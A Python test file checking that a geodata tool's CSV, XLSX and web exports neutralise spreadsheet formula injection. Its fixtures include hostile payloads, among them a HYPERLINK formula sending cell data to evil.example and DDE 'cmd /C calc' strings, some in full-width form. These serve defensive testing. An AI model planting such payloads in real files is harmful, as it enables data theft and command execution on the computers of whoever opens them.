"""Every CSV and XLSX geoaid writes is inert in a spreadsheet: no cell starts a formula.

One function decides (geoaid.output.formula_injection.neutralise); these tests run
every output path — the analysis commands' CSV, every export in CSV and XLSX
(data sheet, headers and notes), the reform report, import reports, and the
web downloads — on a workspace whose user-typed texts are formulas, and
check each cell with a rule written here independently of that function.
"""

from __future__ import annotations

import csv
import io
import json
import math

import openpyxl
import pandas as pd
import pytest

from geoaid.cli import main
from geoaid.imports.problems import ImportReport
from geoaid.output.formula_injection import is_formula_text, neutralise, neutralise_frame
from geoaid.store import schema
from web import create_app

# Leading = + - @ (and their full-width forms), leading tab / CR / LF, and all of them after spaces.
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
HOSTILE_PROJECT = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Nước sạch")',
    "donor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "implementer": " \uff0bcmd|' /C calc'!A0",             # a space, then a full-width plus
}
HOSTILE_COMMUNE = {"name": "\uff1dHYPERLINK(\"http://evil.example\")", "district_name": "\t=1+1"}
HOSTILE_SCHEME_LABEL = "\uff20SUM(1)"                        # full-width @
HOSTILE_REFORM_NAME = "-2+3+cmd|' /C calc'!A0"


def spreadsheet_could_run(text: str) -> bool:
    """The test's own rule: text a spreadsheet may take as a formula (a bare signed number is a number)."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    stripped = text.strip()
    if not stripped or stripped[0] not in TRIGGERS:
        return False
    try:
        return not math.isfinite(float(stripped))
    except ValueError:
        return True


@pytest.mark.parametrize("text", [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0dx", "\uff20x",
    "  =1+1", " \u00a0+cmd", "\u3000\uff1dx", "-2+3", "+84 912 345 678", "=", "-", "@",
])
def test_formula_text_gets_an_apostrophe(text):
    assert spreadsheet_could_run(text) and is_formula_text(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Cà Mau", "", "Xã = 1", "a-b", "'=already text", "-5", "+5", "-1.5",
                                   "-1,234.5", "1e5", -5, -1.5, 0, None, True])
def test_plain_text_and_numbers_are_left_as_they_are(value):
    assert not is_formula_text(value)
    assert neutralise(value) is value


def test_numeric_columns_stay_numbers_and_headers_are_neutralised():
    frame = pd.DataFrame({"=evil header": ["=1", "ok"], "amount": [-5, 3], "share": [-0.5, 1.5]})
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=evil header", "amount", "share"]
    assert out["amount"].tolist() == [-5, 3] and out["amount"].dtype == frame["amount"].dtype
    assert out["share"].tolist() == [-0.5, 1.5]


# --- a workspace whose people-typed texts are formulas --------------------------------------------

@pytest.fixture(scope="module")
def hostile_workspace(demo_workspace_path, tmp_path_factory):
    """The demo, plus a project overlapping a sample project (same commune, sector and period) whose
    title, donor and implementer are formulas; that commune's name and district, a scheme label and a
    reform-report name are formulas too."""
    import shutil

    from geoaid.store.workspace import Workspace

    path = tmp_path_factory.mktemp("hostile") / "hostile.gpkg"
    shutil.copy2(demo_workspace_path, path)
    workspace = Workspace(path)
    with workspace.transaction() as tx:
        projects, locations = tx.read(schema.PROJECTS), tx.read(schema.PROJECT_LOCATIONS)
        target = locations[locations["level"] == "commune"].iloc[0]
        base = projects[projects["project_id"] == target["project_id"]].iloc[0].to_dict()
        evil = base | HOSTILE_PROJECT | {"project_id": "EVIL-1"}
        tx.write(schema.PROJECTS, pd.concat([projects, pd.DataFrame([evil])], ignore_index=True))
        location = target.to_dict() | {"project_id": "EVIL-1", "share_pct": None, "location_text": "\r=1+1"}
        tx.write(schema.PROJECT_LOCATIONS, pd.concat([locations, pd.DataFrame([location])], ignore_index=True))
        communes = tx.read(schema.COMMUNES)
        for column, text in HOSTILE_COMMUNE.items():
            communes.loc[communes["code"] == target["unit_code"], column] = text
        tx.write(schema.COMMUNES, communes)
        schemes = tx.read(schema.SCHEMES)
        schemes.loc[schemes.index[0], "label"] = HOSTILE_SCHEME_LABEL
        tx.write(schema.SCHEMES, schemes)
        report = tx.read(schema.REFORM_REPORT)
        report.loc[report.index[0], "old_name"] = HOSTILE_REFORM_NAME
        tx.write(schema.REFORM_REPORT, report)
    return {"path": path, "donor": HOSTILE_PROJECT["donor"], "sample_donor": base["donor"]}


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def assert_inert(cells: list[str], must_hold: list[str]) -> None:
    """No cell could run; each hostile text in ``must_hold`` is there, behind its apostrophe."""
    running = [cell for cell in cells if spreadsheet_could_run(cell)]
    assert not running, running[:5]
    for text in must_hold:
        assert any(cell.startswith("'" + text) for cell in cells), f"{text!r} is missing or not neutralised"


def run_cli(capsys, *argv) -> str:
    assert main(list(argv)) == 0, capsys.readouterr().err
    return capsys.readouterr().out


COMMUNE_TEXTS = [HOSTILE_COMMUNE["name"], HOSTILE_COMMUNE["district_name"]]


def test_cli_analysis_csv_outputs_are_inert(hostile_workspace, capsys, tmp_path):
    ws = ["--workspace", str(hostile_workspace["path"])]
    assert_inert(csv_cells(run_cli(capsys, "gaps", *ws, "--format", "csv")), COMMUNE_TEXTS)
    out = tmp_path / "gaps.csv"
    run_cli(capsys, "gaps", *ws, "--format", "csv", "--out", str(out))
    assert_inert(csv_cells(out.read_text(encoding="utf-8-sig")), COMMUNE_TEXTS)
    overlaps = csv_cells(run_cli(capsys, "overlaps", *ws, "--format", "csv"))
    assert_inert(overlaps, [HOSTILE_COMMUNE["name"], HOSTILE_PROJECT["donor"], HOSTILE_PROJECT["title"]])
    assert_inert(csv_cells(run_cli(capsys, "donor", *ws, "--format", "csv")), [HOSTILE_PROJECT["donor"]])
    projects = csv_cells(run_cli(capsys, "donor", hostile_workspace["donor"], *ws, "--format", "csv"))
    assert_inert(projects, [HOSTILE_PROJECT["title"]])
    assert_inert(csv_cells(run_cli(capsys, "reform", "report", *ws, "--format", "csv")), [HOSTILE_REFORM_NAME])


EXPORT_TEXTS = {
    "projects": [HOSTILE_PROJECT["title"], HOSTILE_PROJECT["donor"], HOSTILE_PROJECT["implementer"]],
    "allocations": [HOSTILE_PROJECT["title"], HOSTILE_PROJECT["donor"]] + COMMUNE_TEXTS,
    "gaps": COMMUNE_TEXTS,
    "communes": COMMUNE_TEXTS,
}


@pytest.mark.parametrize("what", list(EXPORT_TEXTS))
def test_cli_exports_are_inert_in_csv_and_xlsx(hostile_workspace, capsys, tmp_path, what):
    ws = ["--workspace", str(hostile_workspace["path"])]
    run_cli(capsys, "export", what, *ws, "--out", str(tmp_path / "x.csv"))
    assert_inert(csv_cells((tmp_path / "x.csv").read_text(encoding="utf-8-sig")), EXPORT_TEXTS[what])
    run_cli(capsys, "export", what, *ws, "--out", str(tmp_path / "x.xlsx"))
    cells = xlsx_cells((tmp_path / "x.xlsx").read_bytes())
    assert_inert(cells, EXPORT_TEXTS[what] + [HOSTILE_SCHEME_LABEL])        # the label: in the notes sheet


@pytest.mark.parametrize("what", list(EXPORT_TEXTS))
def test_web_downloads_are_inert(hostile_workspace, what):
    client = create_app(hostile_workspace["path"]).test_client()
    body = client.get(f"/export/{what}.csv")
    assert body.status_code == 200
    assert_inert(csv_cells(body.get_data().decode("utf-8-sig")), EXPORT_TEXTS[what])
    body = client.get(f"/export/{what}.xlsx")
    assert body.status_code == 200
    assert_inert(xlsx_cells(body.get_data()), EXPORT_TEXTS[what] + [HOSTILE_SCHEME_LABEL])


def test_import_report_csv_is_inert():
    report = ImportReport("=evil.csv")
    report.add(3, "title", '=HYPERLINK("x")', "a reason")
    report.add(None, "+column", "-2+3", "@reason")
    assert_inert(csv_cells(report.to_csv()), ["=evil.csv", '=HYPERLINK("x")', "+column", "-2+3", "@reason"])


def test_geojson_keeps_the_text_as_typed(hostile_workspace, capsys, tmp_path):
    out = tmp_path / "projects.geojson"
    run_cli(capsys, "export", "projects", "--workspace", str(hostile_workspace["path"]), "--out", str(out))
    evil = next(f["properties"] for f in json.loads(out.read_text())["features"]
                if f["properties"]["project_id"] == "EVIL-1")
    assert evil["title"] == HOSTILE_PROJECT["title"]
